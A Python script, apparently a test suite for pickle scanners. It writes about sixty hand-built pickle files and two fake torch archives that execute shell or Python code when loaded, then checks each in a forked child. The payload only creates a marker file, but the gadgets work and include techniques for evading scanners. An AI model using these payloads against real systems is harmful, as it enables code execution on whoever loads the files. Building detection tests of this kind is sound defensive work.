"""Writes pickles that do harm when Python loads them, and shows that they do.

    hostile.py write FOLDER          one file for each trick
    hostile.py load FOLDER           loads each file in a child and a folder of its own; prints which of them did harm

The harm is harmless: a file named by the environment variable EVENKEEL_MARKER is made, in a folder of the test's own.
"""

import io
import json
import os
import pickle
import shutil
import struct
import sys
import tempfile
import zipfile

# What is run: touch the marker, by whatever means.
PY = "import os; open(os.environ['EVENKEEL_MARKER'], 'w').close()"
SH = '> "$EVENKEEL_MARKER"'
STOP = b"."


def string(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def glob(module, name):
    return f"c{module}\n{name}\n".encode()


def call(module, name, *args):
    """A call of a global with texts and ready-made operations as arguments."""
    parts = b"".join(arg if isinstance(arg, bytes) else string(arg) for arg in args)
    return glob(module, name) + b"(" + parts + b"tR"


def stack_global(module, name):
    return string(module) + string(name) + b"\x93"


def tricks():
    yield "os_system", call("os", "system", SH) + STOP
    yield "posix_system", call("posix", "system", SH) + STOP
    yield "os_popen", call("os", "popen", SH + "; sleep 0.2") + STOP
    yield "os_popen_read", b"\x80\x04" + call("builtins", "getattr", call("os", "popen", SH), "read") + b")R" + STOP
    yield "subprocess_call", call("subprocess", "getoutput", SH) + STOP
    yield "subprocess_check", call("subprocess", "check_output", b"]" + string("sh") + b"a" + string("-c") + b"a" + string(SH) + b"a") + STOP
    yield "builtins_eval", call("builtins", "eval", f"exec({PY!r})") + STOP
    yield "builtins_exec", call("builtins", "exec", PY) + STOP
    yield "python2_eval", call("__builtin__", "eval", f"exec({PY!r})") + STOP
    yield "builtins_open", b"\x80\x04" + call("builtins", "open", call("os", "getenv", "EVENKEEL_MARKER"), "w") + STOP
    yield "compile_exec", call("builtins", "exec", call("builtins", "compile", PY, "x", "exec")) + STOP
    yield "import_then_getattr", b"\x80\x04" + call("builtins", "getattr", call("builtins", "__import__", "os"), "system") + b"(" + string(SH) + b"tR" + STOP
    yield "importlib", b"\x80\x04" + call("builtins", "getattr", call("importlib", "import_module", "os"), "system") + b"(" + string(SH) + b"tR" + STOP
    yield "stack_global", b"\x80\x04" + stack_global("os", "system") + b"(" + string(SH) + b"tR" + STOP
    yield "dotted_name", b"\x80\x04" + stack_global("pickle", "sys.modules.get") + string("os") + b"\x85R0" + call("os", "system", SH) + STOP
    yield "dotted_reach", b"\x80\x04" + stack_global("shutil", "os.system") + string(SH) + b"\x85R" + STOP
    yield "inst_opcode", b"(" + string(SH) + b"ios\nsystem\n" + STOP
    yield "obj_opcode", b"(" + glob("os", "system") + string(SH) + b"o" + STOP
    yield "newobj", b"\x80\x02" + glob("subprocess", "Popen") + b"]" + string("sh") + b"a" + string("-c") + b"a" + string(SH) + b"a\x85R" + STOP
    yield "protocol_0", b"cos\nsystem\n(S'" + SH.encode() + b"'\ntR."
    yield "unicode_0", b"cos\nsystem\n(V" + SH.encode() + b"\ntR."
    yield "memo_hidden", glob("os", "system") + b"q\x01" + b"0" + b"h\x01(" + string(SH) + b"tR" + STOP
    yield "popped_result", b"(" + call("os", "system", SH) + b"1}" + STOP
    yield "result_thrown_away", call("os", "system", SH) + b"0}q\x00" + STOP
    yield "within_dict", b"}(" + string("weight") + call("os", "system", SH) + b"u" + STOP
    yield "as_key", b"}(" + call("os", "system", SH) + string("x") + b"u" + STOP
    yield "within_list", b"](" + b"K\x01" + call("os", "system", SH) + b"e" + STOP
    yield "build_setstate", b"\x80\x02" + call("builtins", "exec", PY) + b"0" + glob("collections", "OrderedDict") + b")R}b" + STOP
    yield "map_list", call("builtins", "list", call("builtins", "map", glob("os", "system"), b"]" + string(SH) + b"a")) + STOP
    yield "filter_tuple", call("builtins", "tuple", call("builtins", "filter", glob("os", "system"), b"]" + string(SH) + b"a")) + STOP
    yield "partial", b"\x80\x02" + call("functools", "partial", glob("os", "system"), string(SH)) + b")R" + STOP
    yield "reduce_fold", call("functools", "reduce", glob("builtins", "getattr"), b"](" + call("builtins", "__import__", "os") + string("getpid") + b"e") + b"0" + call("os", "system", SH) + STOP
    yield "methodcaller", b"\x80\x02" + call("operator", "methodcaller", "system", SH) + b"(" + call("builtins", "__import__", "os") + b"tR" + STOP
    yield "attrgetter", b"\x80\x02" + call("operator", "attrgetter", "system") + b"(" + call("builtins", "__import__", "os") + b"tR(" + string(SH) + b"tR" + STOP
    yield "runpy", call("runpy", "_run_code", call("builtins", "compile", PY, "x", "exec"), b"}") + STOP
    yield "timeit", call("timeit", "timeit", PY) + STOP
    yield "cprofile", call("cProfile", "run", PY) + STOP
    yield "pdb_bdb", b"\x80\x02" + call("bdb", "Bdb") + b"0" + call("profile", "run", PY) + STOP
    yield "code_console", b"\x80\x02" + call("builtins", "getattr", call("code", "InteractiveInterpreter"), "runsource") + b"(" + string(PY) + b"tR" + STOP
    yield "nested_loads", call("pickle", "loads", b"B" + struct.pack("<I", len(call("os", "system", SH)) + 1) + call("os", "system", SH) + STOP) + STOP
    yield "c_pickle", call("_pickle", "loads", b"B" + struct.pack("<I", len(call("os", "system", SH)) + 1) + call("os", "system", SH) + STOP) + STOP
    yield "pty_spawn", call("os", "spawnlp", b"K\x00", "sh", "sh", "-c", SH) + STOP
    yield "shutil_copy", call("shutil", "copyfile", "/dev/null", call("os", "getenv", "EVENKEEL_MARKER")) + STOP
    yield "pathlib_touch", b"\x80\x04" + call("builtins", "getattr", call("pathlib", "Path", call("os", "getenv", "EVENKEEL_MARKER")), "touch") + b")R" + STOP
    yield "types_function", b"\x80\x04" + call("types", "FunctionType", call("builtins", "compile", PY, "x", "exec"), call("builtins", "globals")) + b")R" + STOP
    yield "logging_config", call("logging.config", "_resolve", "os.system") + b"(" + string(SH) + b"tR" + STOP
    yield "numpy_runstring", call("numpy.testing._private.utils", "runstring", PY, b"}") + STOP
    yield "sys_modules", b"\x80\x04" + call("builtins", "getattr", call("builtins", "getattr", glob("sys", "modules"), "get") + b"0" + glob("os", "path"), "join") + b"0" + call("os", "system", SH) + STOP
    yield "framed_5", b"\x80\x05\x95" + struct.pack("<Q", 12) + stack_global("os", "system")[:0] + stack_global("posix", "system") + string(SH) + b"\x85R" + STOP
    yield "extension_registry", b"\x80\x02" + glob("copyreg", "add_extension") + b"(" + string("os") + string("system") + b"K\x07tR0" + b"\x82\x07" + b"(" + string(SH) + b"tR" + STOP
    yield "extension_hidden", b"\x80\x02" + glob("copyreg", "add_extension") + b"(" + string("os") + string("system") + b"K\x07tR0" + b"](\x84\x07\x00\x00\x00" + b"(" + string(SH) + b"tR" + b"e" + STOP
    yield "build_slots", b"\x80\x02" + glob("argparse", "Namespace") + b")\x81N}(" + string("x") + call("os", "system", SH) + b"u\x86b" + STOP
    yield "before_a_buffer", b"\x80\x05" + call("os", "system", SH) + b"0\x97\x98" + STOP
    yield "before_persistent_id", call("os", "system", SH) + b"0Pweights\n" + STOP
    yield "frame_that_lies", b"\x80\x04\x95" + struct.pack("<Q", 4) + b"N0N0" + stack_global("os", "system") + string(SH) + b"\x85R" + STOP
    yield "ctypes", b"\x80\x04" + call("builtins", "getattr", glob("ctypes", "CDLL") + b"N\x85R", "system") + b"B" + struct.pack("<I", len(SH)) + SH.encode() + b"\x85R" + STOP
    yield "operator_call", call("operator", "call", glob("os", "system"), SH) + STOP
    yield "starmap", call("builtins", "list", call("itertools", "starmap", glob("os", "system"), b"]" + string(SH) + b"\x85a")) + STOP
    yield "default_factory", b"\x80\x04" + call("builtins", "getattr", call("collections", "defaultdict", call("functools", "partial", glob("os", "system"), string(SH))), "__missing__") + b"K\x01\x85R" + STOP
    yield "rebuild_from_type", call("torch._tensor", "_rebuild_from_type_v2", glob("os", "system"), glob("builtins", "object"), string(SH) + b"\x85", b"N") + STOP
    yield "chained_getattr", b"\x80\x04" + call("builtins", "getattr", call("builtins", "getattr", call("builtins", "getattr", glob("collections", "namedtuple"), "__globals__"), "get") + b"(" + string("_sys") + b"tR", "modules") + b"0" + call("os", "system", SH) + STOP


def write(folder):
    os.makedirs(folder, exist_ok=True)
    for name, data in tricks():
        with open(os.path.join(folder, name + ".pkl"), "wb") as file:
            file.write(data)
    # The same within the archive that torch.save writes: what people are sent.
    with zipfile.ZipFile(os.path.join(folder, "torch_archive.pt"), "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00w" + call("os", "system", SH) + b"s.")
        archive.writestr("archive/version", "3\n")
    # Two files of one name: Python reads the last.
    with zipfile.ZipFile(os.path.join(folder, "two_of_a_name.pt"), "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02}.")
        archive.writestr("archive/data.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00w" + call("os", "system", SH) + b"s.")
        archive.writestr("archive/version", "3\n")


def load(path):
    with open(path, "rb") as file:
        data = file.read()
    if path.endswith(".pt"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            data = archive.read("archive/data.pkl")
    try:
        result = pickle.loads(data)
        if hasattr(result, "wait"):
            result.wait()
        elif hasattr(result, "read"):
            result.read()
    except Exception as error:  # Harm was done before or not at all; the marker tells.
        print(type(error).__name__, error)


def harm(path):
    """Whether loading the file makes the marker, in a child whose folder and environment are its own."""
    folder = tempfile.mkdtemp()
    marker = os.path.join(folder, "marker")
    child = os.fork()
    if child == 0:
        os.chdir(folder)
        os.environ["EVENKEEL_MARKER"] = marker
        os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
        load(path)
        os._exit(0)
    os.waitpid(child, 0)
    done = os.path.exists(marker)
    shutil.rmtree(folder)
    return done


if __name__ == "__main__":
    if sys.argv[1] == "write":
        write(sys.argv[2])
    else:
        names = sorted(os.listdir(sys.argv[2]))
        print(json.dumps({name: harm(os.path.join(sys.argv[2], name)) for name in names}))
